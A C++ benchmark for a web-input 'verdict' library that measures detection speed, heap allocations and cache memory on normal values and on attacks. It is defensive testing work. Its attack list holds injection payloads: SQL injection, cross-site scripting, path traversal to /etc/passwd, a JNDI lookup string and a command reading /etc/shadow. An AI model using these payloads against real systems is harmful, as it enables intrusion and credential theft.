// Verdict library speed: judgements per second on cached models, by number
// and by name, for normal values and for attacks, with and without the
// nearest learned patterns, and the heap held per cached argument.
//
// Set-up: one domain in a fresh learning database with one learned argument
// per value kind (counts, e-mail addresses, names, prices, dates, free
// text), each trained on 2,000 generated values as the daemon trains; the
// judged values are 1,000 held-out values of the same kinds (seed differs)
// and a list of injection payloads. Runs against the real Redis and MariaDB.
#include <benchmark/benchmark.h>
#include <malloc.h>

#include <cstdio>
#include <string>
#include <vector>

#include "tests/testutil/testutil.h"
#include "tests/verdict/learned_fixture.h"
#include "verdict/verdict.h"

// Every malloc and calloc of the process is counted, so the benchmarks can
// show how many heap allocations one judgement makes (glibc's own entry
// points do the work).
extern "C" void *__libc_malloc(size_t n);
extern "C" void *__libc_calloc(size_t n, size_t size);
static size_t g_allocations = 0;
extern "C" void *malloc(size_t n) {
  g_allocations++;
  return __libc_malloc(n);
}
extern "C" void *calloc(size_t n, size_t size) {
  g_allocations++;
  return __libc_calloc(n, size);
}

namespace {

const std::vector<std::string> kKinds = {"qty", "email", "name", "price", "date", "text"};
const std::vector<std::string> kAttacks = {"1' OR '1'='1",
                                           "<script>alert(1)</script>",
                                           "../../../../etc/passwd",
                                           "1;DROP TABLE users--",
                                           "${jndi:ldap://x.example/a}",
                                           "' UNION SELECT password FROM users--",
                                           "|cat /etc/shadow",
                                           "\"><img src=x onerror=alert(1)>"};

struct Sample {
  uint32_t arg;
  uint32_t url;
  std::string name;
  std::string value;
};

struct World {
  uint32_t domain = mlt::unique_id();
  std::string db = "mlt_vbench_" + std::to_string(domain);
  std::vector<Sample> normal, attack;
  mlv_ctx *ctx = nullptr;
  mlv_ctx *quiet = nullptr;    // not subscribed: the cost of following notices
  double bytes_per_arg = 0;    // mallinfo2 difference after loading every argument
  double counted_per_arg = 0;  // the library's own estimate
} g;

bool set_up() {
  mlt::provision_db(g.db);
  mlt::write_domain(g.domain, "bench.example", g.db);
  for (size_t k = 0; k < kKinds.size(); k++) {
    mlt::LearnedSpec s;
    s.domain = g.domain;
    s.url = 1 + static_cast<uint32_t>(k / 2);
    s.arg = 10 + static_cast<uint32_t>(k);
    s.name = kKinds[k];
    s.values = mlt::traffic(kKinds[k], 2000, 77 + static_cast<uint32_t>(k));
    mlt::LearnedOut out;
    std::string err = mlt::write_learned(s, g.db, &out);
    if (!err.empty()) {
      fprintf(stderr, "set-up: %s\n", err.c_str());
      return false;
    }
    for (const auto &v : mlt::traffic(kKinds[k], 1000 / kKinds.size(), 9000 + k))
      g.normal.push_back({s.arg, s.url, s.name, v});
    for (const auto &a : kAttacks) g.attack.push_back({s.arg, s.url, s.name, a});
  }
  mlv_options o;
  mlv_options_init(&o);
  o.max_age_seconds = 3600;
  g.ctx = mlv_open(&o);
  o.subscribe = 0;
  g.quiet = mlv_open(&o);
  if (!g.ctx || !g.quiet) return false;
  // The first argument also opens the database connection and the domain's
  // entry; the heap figure is taken over the others.
  mlv_result r;
  const Sample &first = g.normal.front();
  mlv_judge_by_id(g.ctx, g.domain, first.arg, first.value.data(), first.value.size(), 0, &r);
  const size_t before = mallinfo2().uordblks;
  for (const auto &s : g.normal)
    mlv_judge_by_id(g.ctx, g.domain, s.arg, s.value.data(), s.value.size(), 0, &r);
  const size_t after = mallinfo2().uordblks;
  mlv_cache_stats st;
  mlv_stats(g.ctx, &st);
  g.bytes_per_arg = static_cast<double>(after - before) / static_cast<double>(st.arguments - 1);
  g.counted_per_arg = static_cast<double>(st.bytes) / static_cast<double>(st.arguments);
  return st.arguments == kKinds.size();
}

void tear_down() {
  mlv_close(g.ctx);
  mlv_close(g.quiet);
  mlt::delete_domain_keys(g.domain);
  mlt::drop_db(g.db);
}

void judge(benchmark::State &state, const std::vector<Sample> &set, bool by_name, int flags,
           mlv_ctx *ctx = g.ctx) {
  mlv_result r;
  size_t i = 0;
  int64_t flagged = 0;
  const size_t allocations = g_allocations;
  for (auto _ : state) {
    const Sample &s = set[i++ % set.size()];
    int v = by_name
                ? mlv_judge_by_name(ctx, g.domain, s.url, s.name.data(), s.name.size(),
                                    s.value.data(), s.value.size(), flags, &r)
                : mlv_judge_by_id(ctx, g.domain, s.arg, s.value.data(), s.value.size(), flags, &r);
    flagged += v == MLV_POTENTIAL || v == MLV_DEFINITE;
    benchmark::DoNotOptimize(v);
  }
  state.SetItemsProcessed(state.iterations());
  state.counters["allocs_per_judgement"] =
      static_cast<double>(g_allocations - allocations) / static_cast<double>(state.iterations());
  state.counters["flagged_share"] =
      static_cast<double>(flagged) / static_cast<double>(state.iterations());
  state.counters["heap_bytes_per_arg"] = g.bytes_per_arg;
  state.counters["counted_bytes_per_arg"] = g.counted_per_arg;
}

void BM_NormalById(benchmark::State &s) { judge(s, g.normal, false, 0); }
void BM_NormalByName(benchmark::State &s) { judge(s, g.normal, true, 0); }
void BM_AttackById(benchmark::State &s) { judge(s, g.attack, false, 0); }
void BM_AttackByIdNearest(benchmark::State &s) { judge(s, g.attack, false, MLV_EXPLAIN_NEAREST); }
void BM_NormalByIdUnsubscribed(benchmark::State &s) { judge(s, g.normal, false, 0, g.quiet); }
BENCHMARK(BM_NormalById);
BENCHMARK(BM_NormalByIdUnsubscribed);
BENCHMARK(BM_NormalByName);
BENCHMARK(BM_AttackById);
BENCHMARK(BM_AttackByIdNearest);

}  // namespace

int main(int argc, char **argv) {
  benchmark::Initialize(&argc, argv);
  if (!set_up()) {
    fprintf(stderr, "verdict_bench: set-up failed (are Redis and MariaDB running?)\n");
    tear_down();
    return 2;
  }
  benchmark::RunSpecifiedBenchmarks();
  benchmark::Shutdown();
  tear_down();
  return 0;
}
